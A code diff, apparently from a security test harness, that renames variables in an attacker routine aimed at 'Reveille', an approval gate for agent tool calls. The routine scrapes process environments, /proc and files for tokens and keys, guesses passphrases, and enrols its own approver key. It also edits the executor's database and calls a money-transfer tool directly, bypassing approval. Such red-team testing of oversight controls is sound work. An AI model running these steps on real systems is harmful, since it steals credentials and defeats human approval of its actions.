@@ -40,7 +40,7 @@ export type Orders = {
   /** The user of its own intents. */
   own: string;
   /** Locations: folders and files that another attacker would have to guess. */
-  places: { home: string; approver: string; ledger: string; sockets: string[]; files: string[] };
+  locations: { home: string; approver: string; ledger: string; sockets: string[]; files: string[] };
   leaked: string[];
   /** Signed answers and statements that it has forwarded, or read in a receipt. */
   seen: { answer: Record<string, unknown>; enrollment: Record<string, unknown> };
@@ -109,13 +109,13 @@ function collectTree(path: string, depth = 0): void {
   }
 }
 
-function collect({ places }: Orders): void {
+function collect({ locations }: Orders): void {
   for (const [name, value] of Object.entries(process.env)) foundTexts.set(`environment ${name}`, value ?? '');
-  for (const path of [...places.files, process.cwd(), folder, places.home, places.approver]) collectTree(path);
+  for (const path of [...locations.files, process.cwd(), folder, locations.home, locations.approver]) collectTree(path);
   for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
     collectText(`environment of process ${pid}`, () => readFileSync(`/proc/${pid}/environ`, 'latin1'));
     collectText(`arguments of process ${pid}`, () => readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
-    collectTree(`/proc/${pid}/root${places.home}`, 4);
+    collectTree(`/proc/${pid}/root${locations.home}`, 4);
     collectTree(`/proc/${pid}/cwd/.reveille`, 4);
   }
   for (let fd = 3; fd < 64; fd++) {
@@ -400,36 +400,36 @@ async function firstGate(url: string, headers: Headers, intent: string): Promise
 
 /** Runs one of our programs as the person would. */
 function command(
-  candidates: string[],
+  args: string[],
   env: Record<string, string>,
   input = '',
-): Promise<{ code: number | null; said: string }> {
+): Promise<{ code: number | null; output: string }> {
   return new Promise((resolve) => {
-    const child = spawn(process.execPath, [PROGRAM, ...candidates], { env: { PATH: process.env.PATH ?? '', ...env } });
-    let reply = '';
+    const child = spawn(process.execPath, [PROGRAM, ...args], { env: { PATH: process.env.PATH ?? '', ...env } });
+    let output = '';
     for (const stream of [child.stdout, child.stderr])
       stream.setEncoding('utf8').on('data', (text: string) => {
-        reply += text;
+        output += text;
       });
     child.stdin.on('error', () => {}).end(input);
-    child.on('error', (error) => resolve({ code: null, said: error.message }));
-    child.once('close', (code) => resolve({ code, said: reply }));
+    child.on('error', (error) => resolve({ code: null, output: error.message }));
+    child.once('close', (code) => resolve({ code, output }));
   });
 }
 
-async function useCommandLine({ places, targets, person }: Orders): Promise<void> {
-  const env = { HOME: folder, REVEILLE_HOME: places.home };
-  const theirs = { ...env, REVEILLE_APPROVER_DIR: places.approver };
+async function useCommandLine({ locations, targets, person }: Orders): Promise<void> {
+  const env = { HOME: folder, REVEILLE_HOME: locations.home };
+  const theirs = { ...env, REVEILLE_APPROVER_DIR: locations.approver };
   const mine = { ...env, REVEILLE_APPROVER_DIR: join(folder, 'own-key'), REVEILLE_APPROVER_STORE: 'file' };
   // An answer that is wrong for one question is wrong for the next, and each guess costs a third of a second of scrypt.
   let guesses = ['', 'password', 'reveille'];
   for (const { intent, user, gate } of targets) {
-    const candidates = ['intent', 'approve', intent, '--user', user, '--displayed-sha256', gate.displayed_sha256];
+    const args = ['intent', 'approve', intent, '--user', user, '--displayed-sha256', gate.displayed_sha256];
     for (const passphrase of guesses)
-      await run('approves with the command line', candidates, theirs, `${passphrase}\n`, true);
+      await run('approves with the command line', args, theirs, `${passphrase}\n`, true);
     guesses = ['password'];
     await run('enrols with the command line', ['approver', 'enroll', '--user', user], mine);
-    await run('approves with the command line and a key of its own', candidates, mine, '', true);
+    await run('approves with the command line and a key of its own', args, mine, '', true);
   }
   await run('removes the passphrase', ['approver', 'unseal'], theirs, 'password\n');
   await run(
@@ -439,8 +439,8 @@ async function useCommandLine({ places, targets, person }: Orders): Promise<void
   );
   await run('resets the roster', ['approver', 'reset', '--user', person.user], mine);
 
-  async function run(way: string, candidates: string[], given: Record<string, string>, input = '', isAnswer = false) {
-    const { status, stdout, stderr } = await reveille(places.home, candidates, { env: given, input });
+  async function run(way: string, args: string[], given: Record<string, string>, input = '', isAnswer = false) {
+    const { status, stdout, stderr } = await reveille(locations.home, args, { env: given, input });
     tried(way, `exit ${status}: ${(stdout + stderr).trim().slice(0, 100)}`, isAnswer && status === 0);
   }
 }
@@ -448,7 +448,7 @@ async function useCommandLine({ places, targets, person }: Orders): Promise<void
 /**
  * Starts the executor's tool itself, and makes the calls that need an approval. The ledger shows whether money moved.
  */
-async function callTheToolItself({ places }: Orders): Promise<boolean> {
+async function callTheToolItself({ locations }: Orders): Promise<boolean> {
   const args = { from: 'alice', to: 'bob', amount: '66.66', currency: 'EUR', idempotency_key: `mine-${process.pid}` };
   const init = { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '0' } };
   const lines = [
@@ -457,13 +457,13 @@ async function callTheToolItself({ places }: Orders): Promise<boolean> {
     { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'transfer', arguments: args } },
   ];
   const input = lines.map((line) => `${JSON.stringify(line)}\n`).join('');
-  const { said: reply } = await command(
+  const { output } = await command(
     ['ledger'],
-    { HOME: folder, REVEILLE_HOME: places.home, LEDGER_DATA_DIR: places.ledger },
+    { HOME: folder, REVEILLE_HOME: locations.home, LEDGER_DATA_DIR: locations.ledger },
     input,
   );
-  const done = /"transfer_id"/.test(reply);
-  tried('calls the tool without the executor', done ? 'it succeeded' : reply.trim().slice(0, 100));
+  const done = /"transfer_id"/.test(output);
+  tried('calls the tool without the executor', done ? 'it succeeded' : output.trim().slice(0, 100));
   return done;
 }
 
@@ -471,7 +471,7 @@ async function callTheToolItself({ places }: Orders): Promise<boolean> {
 async function takeOver(orders: Orders, { intent, user, gate }: Target, token: string): Promise<string> {
   const own = testApprover();
   const { approver, name, expires_at, signature } = own.enrollment(orders.executor.key, user);
-  const db = new DatabaseSync(join(orders.places.home, 'executor', 'journal.db'), { timeout: 30_000 });
+  const db = new DatabaseSync(join(orders.locations.home, 'executor', 'journal.db'), { timeout: 30_000 });
   db.prepare('DELETE FROM approvers WHERE user_id = ?').run(user);
   db.prepare(
     'INSERT INTO approvers (user_id, public_key, name, enrolled_at, expires_at, signature) VALUES (?, ?, ?, ?, ?, ?)',
@@ -486,13 +486,13 @@ async function takeOver(orders: Orders, { intent, user, gate }: Target, token: s
 
 async function attack(orders: Orders): Promise<Report> {
   collect(orders);
-  const { places } = orders;
+  const { locations } = orders;
   const foreign = /token|secret|seed|sealed|signature_key|BEGIN/i;
   const powers = await powersOf(orders);
   const senders = ['', ...powers.caller];
-  const writable = places.files.filter(mayWrite);
+  const writable = locations.files.filter(mayWrite);
   const sockets: string[] = [];
-  for (const path of places.sockets) if (await opens(path)) sockets.push(path);
+  for (const path of locations.sockets) if (await opens(path)) sockets.push(path);
   await answerEverywhere(orders, senders);
   await answerWithWhatItFound(orders, powers.caller);
   await enrol(orders, powers);
@@ -505,8 +505,8 @@ async function attack(orders: Orders): Promise<Report> {
     const outcome = await takeOver(orders, orders.takeOver, token).catch((error: unknown) => String(error));
     can.push(`writes a key of its own into the executor's database, and answers with it: ${outcome}`);
   }
-  const isTheirs = (path: string) => path.startsWith(places.home) || path.startsWith(places.approver);
-  const files = [...foundTexts.keys()].filter((path) => isTheirs(path) || path.includes(`/root${places.home}`));
+  const isTheirs = (path: string) => path.startsWith(locations.home) || path.startsWith(locations.approver);
+  const files = [...foundTexts.keys()].filter((path) => isTheirs(path) || path.includes(`/root${locations.home}`));
   return {
     found: {
       secrets: [...powers.caller, ...powers.admin].filter((token) =>
